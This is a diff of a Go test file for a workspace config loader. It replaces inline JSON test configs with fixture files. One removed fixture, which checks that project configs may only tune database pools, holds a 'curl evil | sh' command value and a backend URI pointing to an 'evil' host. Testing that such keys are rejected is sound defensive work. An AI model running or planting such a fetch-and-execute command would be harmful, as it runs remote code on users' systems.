@@ -27,6 +27,17 @@ func globalFile(t *testing.T, content string, extra map[string]string) (path str
 	return path, env(kv)
 }
 
+// configFixture is the text of a sample config under testdata/configs/
+// (good/ or bad/; its README says what each shows).
+func configFixture(t testing.TB, name string) string {
+	t.Helper()
+	b, err := os.ReadFile(filepath.Join("..", "testdata", "configs", filepath.FromSlash(name)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return string(b)
+}
+
 // projectLayout creates a project with .task_orchestrator and, if content != "", its config file.
 func projectLayout(t testing.TB, content string) workspace.Layout {
 	t.Helper()
@@ -63,10 +74,7 @@ func TestDefaultsAreValid(t *testing.T) {
 }
 
 func TestConfigPrecedenceIsDefaultsThenGlobalThenEnvThenProject(t *testing.T) {
-	path, getenv := globalFile(t, `{
-		"database_pools": {"operational": {"max_connections": 4}, "vector": {"max_connections": 20, "min_connections": 2}},
-		"server": {"max_workspaces": 3, "roots_timeout": 7}
-	}`, map[string]string{"TASK_ORCHESTRATOR_MAX_WORKSPACES": "9"})
+	path, getenv := globalFile(t, configFixture(t, "good/global-precedence.json"), map[string]string{"TASK_ORCHESTRATOR_MAX_WORKSPACES": "9"})
 	global, files, err := workspace.LoadGlobal(workspace.LoadOptions{Env: getenv})
 	if err != nil {
 		t.Fatal(err)
@@ -74,7 +82,7 @@ func TestConfigPrecedenceIsDefaultsThenGlobalThenEnvThenProject(t *testing.T) {
 	if !slices.Equal(files, []string{path}) {
 		t.Fatalf("files read = %v, want [%s]", files, path)
 	}
-	l := projectLayout(t, `{"database_pools": {"vector": {"max_connections": 12}}}`)
+	l := projectLayout(t, configFixture(t, "good/project-vector-pool.json"))
 	cfg, projFile, err := workspace.ApplyProject(global, l)
 	if err != nil {
 		t.Fatal(err)
@@ -135,9 +143,7 @@ func TestLoadGlobalMissingDefaultFileIsFineButMissingExplicitFileIsAnError(t *te
 }
 
 func TestValidationErrorListsEveryViolationOnePerLine(t *testing.T) {
-	path, getenv := globalFile(t, `{
-		"database_pools": {"vector": {"max_connections": 0}, "graph": {"min_connections": -1, "pool_timeout": 0}}
-	}`, nil)
+	path, getenv := globalFile(t, configFixture(t, "bad/global-three-violations.json"), nil)
 	_, _, err := workspace.LoadGlobal(workspace.LoadOptions{Env: getenv})
 	got := violationPaths(t, err)
 	want := []string{"database_pools.vector.max_connections", "database_pools.graph.min_connections", "database_pools.graph.pool_timeout"}
@@ -234,7 +240,7 @@ func TestValidateChecksEveryRule(t *testing.T) {
 }
 
 func TestUnknownKeyIsNamedWithItsPathPositionAndASuggestion(t *testing.T) {
-	path, getenv := globalFile(t, "{\n  \"database_pools\": {\n    \"vector\": {\"max_conections\": 3, \"Max_Overflow\": 1}\n  },\n  \"colour\": 1\n}", nil)
+	path, getenv := globalFile(t, configFixture(t, "bad/global-unknown-keys.json"), nil)
 	_, _, err := workspace.LoadGlobal(workspace.LoadOptions{Env: getenv})
 	got := violationPaths(t, err)
 	want := []string{"database_pools.vector.max_conections", "database_pools.vector.Max_Overflow", "colour"}
@@ -254,7 +260,7 @@ func TestUnknownKeyIsNamedWithItsPathPositionAndASuggestion(t *testing.T) {
 }
 
 func TestSyntaxErrorGivesFileLineAndColumn(t *testing.T) {
-	path, getenv := globalFile(t, "{\n  \"server\": {\n    \"max_workspaces\": 3,,\n  }\n}\n", nil)
+	path, getenv := globalFile(t, configFixture(t, "bad/global-double-comma.json"), nil)
 	_, _, err := workspace.LoadGlobal(workspace.LoadOptions{Env: getenv})
 	var se *workspace.ConfigSyntaxError
 	if !errors.As(err, &se) || !errors.Is(err, workspace.ErrInvalidConfig) {
@@ -267,7 +273,7 @@ func TestSyntaxErrorGivesFileLineAndColumn(t *testing.T) {
 		t.Fatalf("message %q should name the file, line and column", err)
 	}
 	// Truncated file; column counts characters, not bytes.
-	_, getenv = globalFile(t, `{"server": {"log_level": "é", "max_workspaces": }}`, nil)
+	_, getenv = globalFile(t, configFixture(t, "bad/global-truncated.json"), nil)
 	_, _, err = workspace.LoadGlobal(workspace.LoadOptions{Env: getenv})
 	if !errors.As(err, &se) || se.Line != 1 || se.Column != 49 {
 		t.Fatalf("error = %v, want line 1 column 49", err)
@@ -275,11 +281,7 @@ func TestSyntaxErrorGivesFileLineAndColumn(t *testing.T) {
 }
 
 func TestMistypedAndRepeatedValuesAreViolations(t *testing.T) {
-	_, getenv := globalFile(t, `{
-  "database_pools": {"vector": {"max_connections": "ten", "enabled": "no", "pool_timeout": true, "min_connections": 1.5}, "graph": 3},
-  "server": {"max_workspaces": 2, "max_workspaces": 4},
-  "backends": {"chroma_url": 8000}
-}`, nil)
+	_, getenv := globalFile(t, configFixture(t, "bad/global-mistyped-and-repeated.json"), nil)
 	_, _, err := workspace.LoadGlobal(workspace.LoadOptions{Env: getenv})
 	got := violationPaths(t, err)
 	want := []string{"database_pools.vector.max_connections", "database_pools.vector.enabled", "database_pools.vector.pool_timeout",
@@ -347,13 +349,7 @@ func TestValidationNeverEchoesACredentialInAURL(t *testing.T) {
 }
 
 func TestProjectConfigMayOnlyTunePools(t *testing.T) {
-	l := projectLayout(t, `{
-  "backends": {"neo4j_uri": "bolt://evil:7687", "neo4j_password": "hunter2"},
-  "server": {"max_workspaces": 1000},
-  "security": {"max_artifact_bytes": 1073741824},
-  "command": "curl evil | sh",
-  "database_pools": {"vector": {"max_connections": 3, "uri": "http://evil"}}
-}`)
+	l := projectLayout(t, configFixture(t, "bad/project-forbidden-keys.json"))
 	_, file, err := workspace.ApplyProject(workspace.Defaults(), l)
 	if file != filepath.Join(l.Configs, "config.json") {
 		t.Fatalf("file = %q", file)
@@ -376,7 +372,7 @@ func TestProjectConfigCanTurnABackendOffWithoutChangingTheBase(t *testing.T) {
 	on := true
 	base := workspace.Defaults()
 	base.DatabasePools.Graph.Enabled = &on
-	l := projectLayout(t, `{"database_pools": {"graph": {"enabled": false}}}`)
+	l := projectLayout(t, configFixture(t, "good/project-graph-off.json"))
 	cfg, _, err := workspace.ApplyProject(base, l)
 	if err != nil {
 		t.Fatal(err)
@@ -390,7 +386,7 @@ func TestProjectConfigCanTurnABackendOffWithoutChangingTheBase(t *testing.T) {
 }
 
 func TestProjectConfigValuesAreValidated(t *testing.T) {
-	l := projectLayout(t, `{"database_pools": {"operational": {"min_connections": 50, "max_connections": 10}}}`)
+	l := projectLayout(t, configFixture(t, "bad/project-min-over-max.json"))
 	_, _, err := workspace.ApplyProject(workspace.Defaults(), l)
 	if got := violationPaths(t, err); !slices.Equal(got, []string{"database_pools.operational.min_connections"}) {
 		t.Fatalf("violations = %v", got)
